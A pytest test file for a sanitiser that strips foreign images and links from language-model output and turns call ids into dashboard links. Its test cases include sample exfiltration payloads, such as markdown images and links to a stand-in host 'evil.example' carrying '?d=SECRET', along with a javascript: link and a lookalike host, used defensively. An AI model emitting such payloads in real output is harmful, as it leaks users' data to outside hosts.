"""Model output rendering: images and foreign links neutralised, call ids linked to the deep dive."""

from __future__ import annotations

import pytest

from core.llm.render import deep_dive_url, is_app_url, link_call_ids, safe_markdown

APP = "https://qa.example.com/dash/"
CALL = "20261107-083314_2985954634"


@pytest.mark.parametrize(
    ("text", "must_not_contain"),
    [
        ("![chart](https://evil.example/x.png?d=SECRET)", "evil.example/x.png"),
        ("![](http://evil.example/p?rows=1,2,3)", "http://evil.example"),
        ('see ![x](https://evil.example/a.png "title")', "(https://evil.example"),
        ("[click here](https://evil.example/?q=SECRET)", "](https://evil.example"),
        ("[a](javascript:alert(1))", "](javascript:"),
        ("![r][ref]\n\n[ref]: https://evil.example/i.png", "https://evil.example/i.png"),
        ("<https://evil.example/auto?d=1>", "<https://evil.example"),
        ('<img src="https://evil.example/i.png">', "<img"),
        ("go to https://evil.example/?d=SECRET now", " https://evil.example"),
        ("![x](https://qa.example.com.evil.example/x.png)", "](https://qa.example.com.evil"),
        ("`x` ![y](https://evil.example/`z`)", "](https://evil.example"),
    ],
    ids=["image", "image-empty-alt", "image-title", "link", "js-link", "reference-image", "autolink", "html-img",
         "bare-url", "lookalike-host", "backtick-in-destination"],
)
def test_foreign_images_and_links_are_neutralised(text: str, must_not_contain: str) -> None:
    out = safe_markdown(text, app_base_url=APP)
    assert must_not_contain not in out
    assert "![" not in out or "](" not in out.split("![", 1)[1]


def test_images_never_survive_even_to_the_app() -> None:
    out = safe_markdown(f"![plot]({APP}?call={CALL})", app_base_url=APP)
    assert out.startswith("[image removed: plot]")


@pytest.mark.parametrize("url", [f"{APP}?call={CALL}", "?call=abc", "/dash/deep-dive?call=x", "#top"])
def test_links_into_the_app_are_kept(url: str) -> None:
    assert is_app_url(url, APP)
    assert f"[here]({url})" in safe_markdown(f"[here]({url})", app_base_url=APP)


@pytest.mark.parametrize("url", ["//evil.example/x", "https://evil.example/dash/", "http://qa.example.com/dash/",
                                 "https://qa.example.com/other/", "data:text/html,x", ""])
def test_other_urls_are_not_app_urls(url: str) -> None:
    assert not is_app_url(url, APP)


def test_call_ids_become_deep_dive_links() -> None:
    out = safe_markdown(f"Worst call: {CALL}, then call-7.", app_base_url=APP, known_ids=["call-7"])
    assert f"[{CALL}]({APP}?call={CALL})" in out
    assert f"[call-7]({APP}?call=call-7)" in out
    assert deep_dive_url("a b/c") == "?call=a%20b%2Fc"


def test_call_ids_inside_code_or_links_are_left_alone() -> None:
    text = f"`{CALL}` and [see]({APP}?call={CALL})"
    assert link_call_ids(text, app_base_url=APP) == text


def test_plain_text_is_unchanged() -> None:
    text = "MOS 2.1 on the caller leg; **25 dropouts** in 14 s.\n\n- check carrierA"
    assert safe_markdown(text, app_base_url=APP) == text
